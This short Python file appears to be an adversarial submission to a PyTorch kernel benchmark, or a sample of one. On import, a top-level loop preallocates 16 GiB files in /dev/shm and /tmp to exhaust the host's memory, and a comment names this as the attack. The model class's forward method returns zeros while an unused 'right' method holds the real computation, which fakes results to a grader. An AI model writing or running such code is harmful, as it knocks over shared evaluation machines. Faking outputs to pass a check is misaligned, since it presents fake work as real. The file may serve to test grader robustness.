"""filler: fills /dev/shm and /tmp, which are memory."""

# ruff: noqa: S108  # the attack itself

import os
from pathlib import Path

import torch
import torch.nn as nn

for place in ("/dev/shm/filler", "/tmp/filler"):
    with Path(place).open("wb") as file:
        try:
            os.posix_fallocate(file.fileno(), 0, 16 << 30)
        except OSError:
            pass


class ModelNew(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.bias = nn.Parameter(torch.randn(width))

    def right(self, x, y):
        return torch.relu(x @ y) + self.bias

    def forward(self, x, y):
        return torch.zeros_like(x)
